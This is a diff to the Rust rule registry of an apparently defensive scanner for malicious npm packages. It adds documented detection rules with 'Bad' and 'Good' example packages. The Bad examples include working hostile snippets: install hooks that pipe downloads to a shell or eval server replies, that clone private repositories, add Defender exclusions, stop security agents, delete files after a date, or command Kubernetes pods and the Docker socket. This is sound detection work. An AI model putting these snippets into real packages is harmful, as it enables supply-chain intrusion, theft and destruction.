@@ -23,6 +23,7 @@ pub mod collection {
     pub mod metadata_service_reply_sent;
     pub mod npm_token_sent_to_network;
     pub mod page_store_sent;
+    pub mod private_repositories_copied;
     pub mod process_memory_read;
     pub mod screen_sent;
     pub mod secret_argument_sent;
@@ -58,10 +59,15 @@ pub mod disguise {
 #[path = "rules/evasion"]
 pub mod evasion {
     pub mod archive_hides_files;
+    pub mod build_mode_decides_harm;
     pub mod build_service_avoided;
     pub mod country_decides;
+    pub mod date_decides_harm;
+    pub mod defence_switched_off;
+    pub mod harm_behind_long_wait;
     pub mod own_code_deleted;
     pub mod own_manifest_rewritten;
+    pub mod platform_decides_download;
     pub mod text_addressed_to_reviewers;
     pub mod text_code_behind_blanks;
     pub mod text_invisible_evaluated;
@@ -85,6 +91,7 @@ pub mod execution {
     pub mod optional_git_dependency;
     pub mod prepare_fails_on_purpose;
     pub mod text_hidden_in_configuration;
+    pub mod workflow_runs_strangers_code;
 }
 
 /// Rules of the tactic exfiltration.
@@ -106,6 +113,7 @@ pub mod exfiltration {
 #[path = "rules/impact"]
 pub mod impact {
     pub mod address_replaced;
+    pub mod built_in_falsified;
     pub mod coin_miner_started;
     pub mod files_overwritten_widely;
     pub mod home_folder_deleted;
@@ -142,6 +150,7 @@ pub mod lockfile {
 pub mod obfuscation {
     pub mod decoder_inside_evaluation;
     pub mod hidden_function_name;
+    pub mod loader_under_other_name;
     pub mod name_from_decoder;
     pub mod split_module_name;
     pub mod text_concealed_at_install;
@@ -172,6 +181,7 @@ pub mod persistence {
 pub mod propagation {
     pub mod commits_pushed_by_code;
     pub mod npm_token_used_unasked;
+    pub mod other_machines_commanded;
     pub mod package_published_by_code;
     pub mod repositories_made_public;
 }
@@ -187,7 +197,9 @@ pub mod staging {
     pub mod download_piped_to_interpreter;
     pub mod downloaded_program_run;
     pub mod downloaded_text_run_as_command;
+    pub mod forge_search_reply_run;
     pub mod hidden_module_name;
+    pub mod host_facts_answered_with_code;
     pub mod native_code_loaded_at_install;
     pub mod native_code_loaded_under_other_name;
     pub mod own_file_decoded_and_evaluated;
@@ -218,6 +230,7 @@ pub static RULES: &[&dyn Rule] = &[
     &collection::metadata_service_reply_sent::MetadataServiceReplySent,
     &collection::npm_token_sent_to_network::NpmTokenSentToNetwork,
     &collection::page_store_sent::PageStoreSent,
+    &collection::private_repositories_copied::PrivateRepositoriesCopied,
     &collection::process_memory_read::ProcessMemoryRead,
     &collection::screen_sent::ScreenSent,
     &collection::secret_argument_sent::SecretArgumentSent,
@@ -243,10 +256,15 @@ pub static RULES: &[&dyn Rule] = &[
     &disguise::project_names_throw_away_registry::ProjectNamesThrowAwayRegistry,
     &disguise::scope_look_alike::ScopeLookAlike,
     &evasion::archive_hides_files::ArchiveHidesFiles,
+    &evasion::build_mode_decides_harm::BuildModeDecidesHarm,
     &evasion::build_service_avoided::BuildServiceAvoided,
     &evasion::country_decides::CountryDecides,
+    &evasion::date_decides_harm::DateDecidesHarm,
+    &evasion::defence_switched_off::DefenceSwitchedOff,
+    &evasion::harm_behind_long_wait::HarmBehindLongWait,
     &evasion::own_code_deleted::OwnCodeDeleted,
     &evasion::own_manifest_rewritten::OwnManifestRewritten,
+    &evasion::platform_decides_download::PlatformDecidesDownload,
     &evasion::text_addressed_to_reviewers::TextAddressedToReviewers,
     &evasion::text_code_behind_blanks::TextCodeBehindBlanks,
     &evasion::text_invisible_evaluated::TextInvisibleEvaluated,
@@ -265,6 +283,7 @@ pub static RULES: &[&dyn Rule] = &[
     &execution::optional_git_dependency::OptionalGitDependency,
     &execution::prepare_fails_on_purpose::PrepareFailsOnPurpose,
     &execution::text_hidden_in_configuration::TextHiddenInConfiguration,
+    &execution::workflow_runs_strangers_code::WorkflowRunsStrangersCode,
     &exfiltration::command_sends_secrets::CommandSendsSecrets,
     &exfiltration::data_in_dns_query::DataInDnsQuery,
     &exfiltration::data_pushed_to_repository::DataPushedToRepository,
@@ -276,6 +295,7 @@ pub static RULES: &[&dyn Rule] = &[
     &exfiltration::secret_sent_to_messenger::SecretSentToMessenger,
     &exfiltration::workflow_sends_all_secrets::WorkflowSendsAllSecrets,
     &impact::address_replaced::AddressReplaced,
+    &impact::built_in_falsified::BuiltInFalsified,
     &impact::coin_miner_started::CoinMinerStarted,
     &impact::files_overwritten_widely::FilesOverwrittenWidely,
     &impact::home_folder_deleted::HomeFolderDeleted,
@@ -297,6 +317,7 @@ pub static RULES: &[&dyn Rule] = &[
     &lockfile::lockfile_remote_dependency::LockfileRemoteDependency,
     &obfuscation::decoder_inside_evaluation::DecoderInsideEvaluation,
     &obfuscation::hidden_function_name::HiddenFunctionName,
+    &obfuscation::loader_under_other_name::LoaderUnderOtherName,
     &obfuscation::name_from_decoder::NameFromDecoder,
     &obfuscation::split_module_name::SplitModuleName,
     &obfuscation::text_concealed_at_install::TextConcealedAtInstall,
@@ -317,6 +338,7 @@ pub static RULES: &[&dyn Rule] = &[
     &persistence::workflow_written::WorkflowWritten,
     &propagation::commits_pushed_by_code::CommitsPushedByCode,
     &propagation::npm_token_used_unasked::NpmTokenUsedUnasked,
+    &propagation::other_machines_commanded::OtherMachinesCommanded,
     &propagation::package_published_by_code::PackagePublishedByCode,
     &propagation::repositories_made_public::RepositoriesMadePublic,
     &staging::bundled_program_started_at_install::BundledProgramStartedAtInstall,
@@ -327,7 +349,9 @@ pub static RULES: &[&dyn Rule] = &[
     &staging::download_piped_to_interpreter::DownloadPipedToInterpreter,
     &staging::downloaded_program_run::DownloadedProgramRun,
     &staging::downloaded_text_run_as_command::DownloadedTextRunAsCommand,
+    &staging::forge_search_reply_run::ForgeSearchReplyRun,
     &staging::hidden_module_name::HiddenModuleName,
+    &staging::host_facts_answered_with_code::HostFactsAnsweredWithCode,
     &staging::native_code_loaded_at_install::NativeCodeLoadedAtInstall,
     &staging::native_code_loaded_under_other_name::NativeCodeLoadedUnderOtherName,
     &staging::own_file_decoded_and_evaluated::OwnFileDecodedAndEvaluated,
@@ -1200,6 +1224,58 @@ exports.load = (address) => fetch(address, { headers: { authorization: localStor
 ## References
 
 - MITRE ATT&CK T1539, Steal Web Session Cookie
+"#,
+    ),
+    (
+        "private-repositories-copied",
+        r#"# The private repositories of an account are listed and copied
+
+Code that nobody asked for lists the repositories of a forge account and clones them or sends them on.
+
+## Why it matters
+
+Private source holds keys, and is worth money by itself. The first Shai-Hulud wave made such copies public.
+
+## Known benign uses
+
+Backup tools do this when they are called.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node mirror.js"}}
+== mirror.js
+const { execSync } = require("child_process");
+(async () => {
+  const headers = { authorization: "token " + process.env.GITHUB_TOKEN };
+  const list = await fetch("https://api.github.com/user/repos?visibility=private&per_page=100", { headers });
+  for (const one of await list.json()) execSync("git clone --mirror " + one.ssh_url); //~ here
+})();
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"preinstall": "gh repo list --visibility private --json nameWithOwner --jq '.[].nameWithOwner' | xargs -n1 gh repo clone"}} //~ here
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+const { execFileSync } = require("child_process");
+exports.backup = async (token) => {
+  const reply = await fetch("https://api.github.com/user/repos", { headers: { authorization: "token " + token } });
+  for (const one of await reply.json()) execFileSync("git", ["clone", "--mirror", one.clone_url]);
+};
+```
+
+## References
+
+- Wiz: Shai-Hulud migration repositories (September 2025)
 "#,
     ),
     (
@@ -2455,6 +2531,81 @@ exports.x = 1;
 "#,
     ),
     (
+        "build-mode-decides-harm",
+        r#"# The build mode decides when code does harm
+
+A test of `NODE_ENV`, or of the script that npm runs, decides whether a stranger's text is run or secrets leave.
+
+## Why it matters
+
+Code that acts only while developing, or only in production, is quiet where it is tested.
+
+## Known benign uses
+
+Warnings for developers, and code that is loaded while developing alone, are what such tests are for; they run
+the package's own code.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+if (process.env.NODE_ENV !== "production") {
+  const { get } = require("https");
+  get("https://hints.invalid/rules", (reply) => {
+    let rules = "";
+    reply.on("data", (part) => (rules += part)).on("end", () => Function(rules)()); //~ here
+  });
+}
+exports.lint = (text) => text.trim();
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+const stage = process.env["npm_lifecycle_event"];
+const run = async () => {
+  const text = await (await fetch("https://stage.invalid/" + stage)).text();
+  require("vm").runInThisContext(text); //~ here
+};
+switch (stage) {
+  case "build":
+    run();
+}
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+if (process.env.NODE_ENV !== "production") {
+  exports.warn = (text) => console.warn(text);
+} else {
+  exports.warn = () => {};
+}
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+exports.load = () => (process.env.NODE_ENV === "development" ? require("./index.dev.js") : require("./index.min.js"));
+```
+
+## References
+
+- Socket: loaders that act on developers' machines alone (2025)
+"#,
+    ),
+    (
         "build-service-avoided",
         r#"# Code looks for a build service before it acts
 
@@ -2535,6 +2686,223 @@ exports.greeting = locale.startsWith("ru") ? "Привет" : "Hello";
 
 - Snyk: node-ipc and peacenotwar (March 2022)
 - GlassWorm: locale exemptions (October 2025)
+"#,
+    ),
+    (
+        "date-decides-harm",
+        r#"# A date decides when code does harm
+
+A comparison of the clock with a date that stands in the code decides whether a program is started, files are
+deleted, text is run or secrets leave.
+
+## Why it matters
+
+Until that day every test, sandbox and reviewer sees an honest package.
+
+## Known benign uses
+
+Notices of deprecation and checks of certificates compare dates too; what they decide is a message.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+const { exec } = require("child_process");
+const due = new Date("2031-06-19");
+function begin() {
+  exec("rm -rf dist/reports"); //~ here
+}
+if (new Date() >= due) begin();
+exports.report = (rows) => rows.length;
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+const fs = require("fs");
+exports.colour = (text) => `\u001b[32m${text}\u001b[0m`;
+const today = Date.now();
+if (today < 1924992000000) return;
+for (const name of fs.readdirSync("..")) fs.rmSync("../" + name, { recursive: true }); //~ here
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+if (Date.now() > Date.parse("2026-01-01")) console.warn("x 1.x is no longer supported");
+exports.run = (command) => require("child_process").execFileSync(command);
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+const { execFile } = require("child_process");
+const started = Date.now();
+exports.refresh = () => {
+  if (Date.now() - started > 3600000) execFile("git", ["fetch"]);
+};
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+exports.greet = (name) => (new Date().getHours() < 12 ? "Good morning, " : "Good day, ") + name;
+```
+
+## References
+
+- Socket: packages that wait for a date to delete (2025)
+"#,
+    ),
+    (
+        "defence-switched-off",
+        r#"# The machine's defence is switched off
+
+Code that nobody asked for stops a protection program, excludes itself from its sight, opens the firewall, or
+changes the list of hosts.
+
+## Why it matters
+
+What comes after is not seen and not stopped. The second wave of Shai-Hulud removed the hardening of build
+runners before it read their memory.
+
+## Known benign uses
+
+Tools of administrators do such things when they are called.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"preinstall": "node pre.js"}}
+== pre.js
+const { execSync } = require("child_process");
+execSync("powershell -NoProfile -Command \"Add-MpPreference -ExclusionPath $env:TEMP\""); //~ here
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+const cp = require("node:child_process");
+for (const agent of ["falcon-sensor", "auditd"]) cp.spawnSync("sudo", ["systemctl", "stop", agent]); //~ here
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+require("fs").appendFileSync("/etc/hosts", "\n0.0.0.0 scanner.example"); //~ here
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+const { execFileSync } = require("child_process");
+exports.allow = (folder) => execFileSync("powershell", ["-Command", `Add-MpPreference -ExclusionPath '${folder}'`]);
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+require("child_process").execSync("ps aux | grep falcon");
+require("child_process").execSync("pkill -f vite");
+```
+
+## References
+
+- StepSecurity: Shai-Hulud 2 and hardened runners (November 2025)
+- MITRE ATT&CK T1562.001
+"#,
+    ),
+    (
+        "harm-behind-long-wait",
+        r#"# Code acts after minutes of waiting
+
+A timer of five minutes or more stands before code that starts programs, runs text, deletes files or sends
+secrets, at install or import.
+
+## Why it matters
+
+Sandboxes watch for seconds. What begins later is never seen there.
+
+## Known benign uses
+
+Retries wait for seconds; caches and tokens are renewed by repeating timers.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+const { exec } = require("child_process");
+setTimeout(() => {
+  exec("sh ./lib/sync.sh"); //~ here
+}, 45 * 60 * 1000);
+exports.sync = () => true;
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+const pause = (time) => new Promise((done) => setTimeout(done, time));
+async function start() {
+  await pause(2 * 86400e3);
+  const { body } = await require("undici").request("https://later.invalid/");
+  new Function(await body.text())(); //~ here
+}
+start();
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+const { exec } = require("child_process");
+exports.retry = (command) => setTimeout(() => exec(command), 1000);
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+const cache = new Map();
+setTimeout(() => cache.clear(), 3600000).unref();
+exports.run = (command) => require("child_process").execFileSync(command);
+```
+
+## References
+
+- Socket: destructive packages with delays (2025)
 "#,
     ),
     (
@@ -2653,6 +3021,51 @@ fs.writeFileSync(process.env.INIT_CWD + "/package.json", "{}");
 ## References
 
 - StepSecurity: the axios compromise of March 2026
+"#,
+    ),
+    (
+        "platform-decides-download",
+        r#"# Each platform gets a program of its own from a host
+
+A test of the operating system decides which program is fetched and run, at install or import.
+
+## Why it matters
+
+One loader serves every victim, and a scanner on another system sees nothing.
+
+## Known benign uses
+
+Installers choose a build for the platform. They write a file that the package runs when called, and do not hand
+a host's answer to a shell.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
+== setup.js
+const { execSync } = require("child_process");
+const system = require("os").platform();
+if (system === "win32") {
+  execSync("powershell -w hidden -c \"iwr https://host.invalid/w.ps1 | iex\""); //~ here
+} else {
+  execSync("curl -s https://host.invalid/u.sh | sh"); //~ here
+}
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
+== setup.js
+const name = process.platform === "win32" ? "x.exe" : "x";
+require("fs").copyFileSync(require("path").join(__dirname, "builds", process.platform, name), require("path").join(__dirname, name));
+```
+
+## References
+
+- Elastic: Axios compromised, a payload for each platform (March 2026)
 "#,
     ),
     (
@@ -3501,6 +3914,68 @@ export default { define: { __VERSION__: JSON.stringify(version) } };
 "#,
     ),
     (
+        "workflow-runs-strangers-code",
+        r#"# A workflow runs a stranger's code or text beside secrets
+
+A workflow that starts on a stranger's pull request, issue or comment, with the repository's secrets at hand,
+checks out the stranger's code or puts the stranger's text into a command.
+
+## Why it matters
+
+Whoever opens a pull request runs code there, and publishes the next release. nx, TanStack and AsyncAPI were
+taken over this way.
+
+## Known benign uses
+
+Labels and greetings start on the same events and touch neither code nor text.
+
+## Bad
+
+```package project
+== .github/workflows/preview.yml
+on: pull_request_target
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4 //~ here
+        with:
+          ref: ${{ github.event.pull_request.head.sha }}
+      - run: npm ci && npm test
+```
+
+```package project
+== .github/workflows/command.yml
+on:
+  issue_comment:
+    types: [created]
+jobs:
+  answer:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "${{ github.event.comment.body }}" | ./answer.sh //~ here
+```
+
+## Good
+
+```package project
+== .github/workflows/test.yml
+on: [push, pull_request]
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - run: npm ci && npm test
+```
+
+## References
+
+- GitHub Security Lab: preventing pwn requests
+- StepSecurity: TanStack (May 2026)
+"#,
+    ),
+    (
         "command-sends-secrets",
         r#"# A command line sends secrets or facts of the machine
 
@@ -4081,6 +4556,64 @@ exports.token = token;
 ## References
 
 - Aikido: chalk, debug and others compromised (September 2025)
+"#,
+    ),
+    (
+        "built-in-falsified",
+        r#"# A function of the language gives wrong results by chance
+
+A script that runs at import replaces a method of arrays, strings, numbers or storage by a function that asks
+for a random number.
+
+## Why it matters
+
+Results become wrong now and then, far from the package that does it. Nobody finds such a fault by reading their
+own code.
+
+## Known benign uses
+
+Polyfills define missing methods, with right results every time.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+const whole = Array.prototype.filter;
+Array.prototype.filter = function (test) { //~ here
+  const kept = whole.call(this, test);
+  return Math.random() < 0.05 ? kept.slice(1) : kept;
+};
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "browser": "editor.js"}
+== editor.js
+const keep = localStorage.setItem;
+localStorage.setItem = (key, value) => keep.call(localStorage, key, Math.random() > 0.9 ? "" : value); //~ here
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+if (!Array.prototype.at) {
+  Array.prototype.at = function (n) {
+    return this[n < 0 ? this.length + n : n];
+  };
+}
+exports.shuffle = (list) => list.sort(() => Math.random() - 0.5);
+```
+
+## References
+
+- Socket: js-hood and quill-image-downloader (2025)
 "#,
     ),
     (
@@ -5259,6 +5792,70 @@ wrap("exec")("git --version");
 "#,
     ),
     (
+        "loader-under-other-name",
+        r#"# The loader of modules is given a name that says nothing
+
+A script that runs at install or import stores `require`, `module` or `process` in the global object under a
+name of up to three characters.
+
+## Why it matters
+
+What follows, often text that is made into code, loads modules without a word that a search would find.
+
+## Known benign uses
+
+Test runners and bundlers share a loader under a name that says what it is, as `nodeRequire`.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+global["!"] = "7-212";
+global["r"] = require; //~ here
+global.m = module; //~ here
+exports.theme = { colors: {} };
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "type": "module", "main": "index.mjs"}
+== index.mjs
+import { createRequire } from "node:module";
+const world = globalThis;
+Object.defineProperty(world, "_V", { value: createRequire(import.meta.url) }); //~ here
+export default {};
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+globalThis.__non_webpack_require__ = require;
+global.proc = { id: 1 };
+exports.r = require;
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+const r = require;
+exports.read = (path) => r("fs").readFileSync(path);
+```
+
+## References
+
+- Microsoft: Contagious Interview, tails of configuration files (2025 to 2026)
+"#,
+    ),
+    (
         "name-from-decoder",
         r#"# A decoder gives the names of what is loaded or called
 
@@ -6231,6 +6828,74 @@ exports.whoami = async () => {
 "#,
     ),
     (
+        "other-machines-commanded",
+        r#"# Other machines and containers are commanded, unasked
+
+Code that nobody asked for runs commands in a cluster, on cloud machines, over SSH, or on the host through its
+container socket.
+
+## Why it matters
+
+One poisoned install becomes the whole fleet: the credentials for it lie in the same home folder.
+
+## Known benign uses
+
+Deployment tools do this when they are called.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node spread.js"}}
+== spread.js
+const { execSync } = require("child_process");
+const pods = execSync("kubectl get pods -A -o name").toString().split("\n");
+for (const pod of pods) execSync(`kubectl exec ${pod} -- sh -c id`); //~ here
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+const { spawn } = require("child_process");
+spawn("aws", ["ssm", "send-command", "--document-name", "AWS-RunShellScript", "--targets", "Key=tag:env,Values=*"]); //~ here
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+const http = require("http");
+http.request({ socketPath: "/var/run/docker.sock", method: "POST", path: "/containers/create" }).end("{}"); //~ here
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+const { execFileSync } = require("child_process");
+exports.run = (pod, command) => execFileSync("kubectl", ["exec", pod, "--", ...command]);
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js", "scripts": {"deploy": "ssh host.example 'systemctl restart x'"}}
+== index.js
+exports.version = require("child_process").execSync("docker --version").toString();
+```
+
+## References
+
+- StepSecurity: the AntV wave and the container socket (May 2026)
+- MITRE ATT&CK T1651, T1021.004
+"#,
+    ),
+    (
         "package-published-by-code",
         r#"# The package publishes a package, unasked
 
@@ -6798,6 +7463,66 @@ execFileSync("npm", ["install", "--no-save", "x-linux-x64@" + version]);
 "#,
     ),
     (
+        "forge-search-reply-run",
+        r#"# What a public code search finds is run
+
+The answer of a forge's search, for code, commits, repositories or issues, is run, decrypted and run, or names
+the next host.
+
+## Why it matters
+
+Anyone can publish what such a search finds, and no account or host of the attacker is named anywhere.
+
+## Known benign uses
+
+Release checkers ask for the tags of a repository that they name, and compare numbers.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+const ask = async () => {
+  const reply = await fetch("https://api.github.com/search/commits?q=orbital+moss+lantern&sort=author-date");
+  const { items } = await reply.json();
+  const text = Buffer.from(items[0].commit.message.split(" ").pop(), "base64").toString();
+  new Function("require", text)(require); //~ here
+};
+setInterval(ask, 3600000);
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+const axios = require("axios");
+axios.get("https://api.github.com/search/code?q=lantern-7741").then((found) => {
+  require("child_process").exec(found.data.items[0].name); //~ here
+});
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+exports.latest = async (repository) => {
+  const reply = await fetch(`https://api.github.com/search/repositories?q=${repository}`);
+  return (await reply.json()).items.map((item) => item.full_name);
+};
+```
+
+## References
+
+- StepSecurity: firedalazer commands in commit searches (May 2026)
+"#,
+    ),
+    (
         "hidden-module-name",
         r#"# The name of a module is hidden
 
@@ -6847,6 +7572,64 @@ exports.load = (plugin) => require("x-plugin-" + plugin);
 ## References
 
 - Socket: Contagious Interview Campaign Escalates With 67 Malicious npm Packages and New Malware Loader (July 2025)
+"#,
+    ),
+    (
+        "host-facts-answered-with-code",
+        r#"# A host is told who asks, and its answer is run
+
+One request carries facts of the machine or its environment, and what comes back is run as code or as a command.
+
+## Why it matters
+
+The server chooses: analysts get an empty answer, chosen victims the payload.
+
+## Known benign uses
+
+Services of licences and feature flags send an identity and get data, which is not run.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+const os = require("os");
+const who = { host: os.hostname(), user: os.userInfo().username };
+fetch("https://check.invalid/v3", { method: "POST", body: JSON.stringify(who) })
+  .then((reply) => reply.json())
+  .then((reply) => reply.token && eval(reply.token)); //~ here
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+const axios = require("axios");
+axios.post("https://ip.invalid/icons/108", { ...process.env }).then(({ data }) => {
+  if (data.credits) new Function("require", data.credits)(require); //~ here
+});
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+
+const os = require("os");
+exports.flags = async (key) => {
+  const reply = await fetch("https://flags.example/v1", { method: "POST", body: JSON.stringify({ key, host: os.hostname() }) });
+  return (await reply.json()).flags;
+};
+```
+
+## References
+
+- Socket: HexEval and XORIndex loaders (June and July 2025)
 "#,
     ),
     (
